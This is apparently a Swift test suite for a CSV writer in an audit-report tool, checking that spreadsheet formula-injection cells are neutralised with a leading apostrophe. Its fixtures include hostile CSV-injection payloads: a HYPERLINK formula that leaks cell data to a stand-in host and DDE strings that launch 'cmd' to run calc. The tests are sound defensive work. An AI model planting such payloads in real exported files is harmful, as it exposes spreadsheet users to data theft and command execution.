import LeniencyAudit
import LeniencyReports
import Testing

@Suite("CSV writer: quoting and formula injection")
struct CSVWriterTests {
    @Test("a text cell a spreadsheet would evaluate gets a leading apostrophe", arguments: [
        ("=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\""),
        ("+86 791 1234", "'+86 791 1234"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "\"'\r=1+1\""),
        ("-500", "'-500"),
    ])
    func dangerousTextIsNeutralised(text: String, expected: String) {
        #expect(CSVWriter.field(.text(text)) == expected)
    }

    @Test("ordinary text is unchanged, or only quoted", arguments: [
        ("洪税罚〔2025〕0012号", "洪税罚〔2025〕0012号"),
        ("a=b", "a=b"),
        (" =1+1", " =1+1"),
        ("甲, 乙", "\"甲, 乙\""),
        ("", ""),
    ])
    func ordinaryTextIsKept(text: String, expected: String) {
        #expect(CSVWriter.field(.text(text)) == expected)
    }

    @Test("a number cell stays a number, negative ones included; anything else in it is treated as text")
    func numbersStayNumbers() {
        #expect(CSVWriter.field(.number("-1200")) == "-1200")
        #expect(CSVWriter.field(.number("-0.50")) == "-0.50")
        #expect(CSVWriter.field(.integer(42)) == "42")
        #expect(CSVWriter.field(.number("-1+1")) == "'-1+1")
        #expect(CSVWriter.field(.number("=1")) == "'=1")
        #expect(CSVWriter.field(.number("-")) == "'-")
        #expect(CSVWriter.field(.number("1.")) == "1.")
    }

    @Test("a table starts with a byte order mark and the header, rows end in CRLF")
    func tableLayout() {
        var csv = CSVWriter(header: ["id", "fine"])
        csv.append([.text("=1"), .number("-3")])
        #expect(csv.text == "\u{FEFF}id,fine\r\n'=1,-3\r\n")
        #expect(CSVWriter(header: ["a"], byteOrderMark: false).text == "a\r\n")
    }

    @Test("audit CSV: a case number and an agency written as formulas come out as text")
    func auditCSVNeutralisesHostileCells() throws {
        let catalog = try AuditFixtures.catalog()
        var hostile = AuditFixtures.cleanPenalty(id: "=HYPERLINK(\"http://x.example\",\"案\")", line: 3)
        hostile.agency = "@SUM(1+1)*cmd|' /C calc'!A0"
        hostile.officers = []
        let report = Auditor(catalog: catalog).audit(cases: [hostile])
        #expect(!report.findings.isEmpty)
        let csv = AuditReportRenderer.render(report, format: .csv)
        let rows = AuditRendererTests().parseCSV(String(csv.dropFirst()))
        for row in rows.dropFirst() {
            #expect(row[4] == "'=HYPERLINK(\"http://x.example\",\"案\")")
            #expect(row[11] == "'@SUM(1+1)*cmd|' /C calc'!A0")
            #expect(Int(row[6]) == 3, "line stays a number")
            #expect(row.allSatisfy { cell in !["=", "+", "-", "@", "\t", "\r"].contains(cell.first.map(String.init) ?? "") })
        }
    }
}
